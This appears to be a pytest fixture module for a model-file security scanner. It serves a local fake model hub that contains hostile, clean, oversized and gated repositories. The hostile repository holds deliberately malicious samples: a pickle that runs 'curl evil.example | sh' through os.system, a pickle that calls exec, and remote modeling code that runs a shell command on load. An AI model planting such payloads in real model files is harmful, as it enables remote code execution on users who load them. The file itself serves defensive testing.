"""Repositories on a local hub, and the command line pointed at it."""

from __future__ import annotations

import json
import pickle
import socket
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.cli.conftest import Run, run_cli
from tests.scanner.pickle.hostile import reduce_call
from tests.scanner.remote.hub_server import HubServer, Repo, serve_hub

CONFIG = {"model_type": "acme", "auto_map": {"AutoModel": "modeling_acme.AcmeModel"}}
MODELING = "import os\n\n\nclass AcmeModel:\n    def __init__(self):\n        os.system('id')\n"

#: A model repository as people publish them: weights, configs, remote code, a TensorFlow
#: checkpoint shard (a name no list of model extensions has), and files no loader reads.
HOSTILE = {
    "config.json": json.dumps(CONFIG).encode(),
    "modeling_acme.py": MODELING.encode(),
    "pytorch_model.bin": reduce_call("os", "system", "curl evil.example | sh"),
    "variables/variables.data-00000-of-00001": reduce_call("builtins", "exec", "print(1)"),
    "variables/variables.index": b"\x00" * 16,
    "tokenizer_config.json": json.dumps({"model_max_length": 512}).encode(),
    "README.md": b"---\nlicense: mit\n---\n# Acme\n",
    "docs/architecture.png": b"\x89PNG\r\n\x1a\n" + b"\x00" * 64,
    "eval/results.csv": b"metric,value\naccuracy,0.9\n",
    ".gitattributes": b"*.bin filter=lfs diff=lfs merge=lfs -text\n",
}
#: What a loader may read of it (downloaded and scanned).
HOSTILE_SCANNED = {
    "config.json",
    "modeling_acme.py",
    "pytorch_model.bin",
    "variables/variables.data-00000-of-00001",
    "variables/variables.index",
    "tokenizer_config.json",
}
#: The v1 tag: a clean model.
CLEAN = {
    "config.json": json.dumps({"model_type": "acme"}).encode(),
    "weights.pkl": pickle.dumps({"w": [0.5, 1.5]}, protocol=4),
    "README.md": b"# Acme v1\n",
}
#: A model with one file larger than the limits the tests set (2048 bytes).
BIG = {
    "config.json": json.dumps({"model_type": "acme"}).encode(),
    "model.pkl": pickle.dumps(b"\x00" * 5000, protocol=4),
}


@pytest.fixture(scope="module")
def hub() -> Iterator[HubServer]:
    hostile = Repo(CLEAN, gated=False)
    hostile.refs["v1"] = hostile.refs["main"]
    hostile.commit(HOSTILE, ref="main")
    repos = {"acme/hostile": hostile, "acme/big": Repo(BIG), "acme/gated": Repo(CLEAN, gated=True)}
    with serve_hub(repos) as server:
        yield server


@pytest.fixture
def cache(tmp_path: Path) -> Path:
    return tmp_path / "hf-home"


def hub_env(hub: HubServer, home: Path) -> dict[str, str]:
    """The library pointed at the local hub, with a cache of its own and no login."""
    return {
        "HF_ENDPOINT": hub.url,
        "HF_HOME": str(home),
        "HF_HUB_CACHE": str(home / "hub"),
        "HF_TOKEN": "",
        "HF_HUB_OFFLINE": "0",
        "HF_HUB_DISABLE_TELEMETRY": "1",
        "HF_HUB_DISABLE_PROGRESS_BARS": "1",
    }


def scan_remote(hub: HubServer, home: Path, *args: str, cwd: Path, **env: str) -> Run:
    """``modelshield scan ARGS`` with the hub at ``hub``."""
    return run_cli("scan", *args, cwd=cwd, env={**hub_env(hub, home), **env})


def closed_port() -> int:
    """A loopback port nothing listens on."""
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])
